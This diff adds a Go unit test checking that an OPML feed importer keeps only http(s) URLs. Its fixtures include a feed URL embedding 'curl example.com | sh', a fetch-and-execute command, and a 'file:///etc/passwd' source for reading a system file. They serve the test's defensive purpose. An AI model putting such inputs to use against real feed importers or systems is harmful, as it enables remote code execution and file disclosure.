@@ -71,3 +71,18 @@ func TestOMPLParser(t *testing.T) {
 		}
 	}
 }
+
+func TestImportSkipsLocalSources(t *testing.T) {
+	data := []byte(`<opml version="1.0"><body><outline text="Folder">
+<outline type="rss" text="web" title="web" xmlUrl="https://example.com/feed.xml"/>
+<outline type="rss" text="cmd" title="cmd" xmlUrl="exec:curl example.com | sh"/>
+<outline type="rss" text="file" title="file" xmlUrl="file:///etc/passwd"/>
+</outline></body></opml>`)
+
+	result, err := parseOPML(data)
+	test.HandleError(t, err)
+
+	feeds := getChildFeeds(result.Body.Outlines[0])
+	test.Equal(t, 1, len(feeds), "only http(s) feeds should be imported")
+	test.Equal(t, "https://example.com/feed.xml", feeds[0].URL, "wrong feed imported")
+}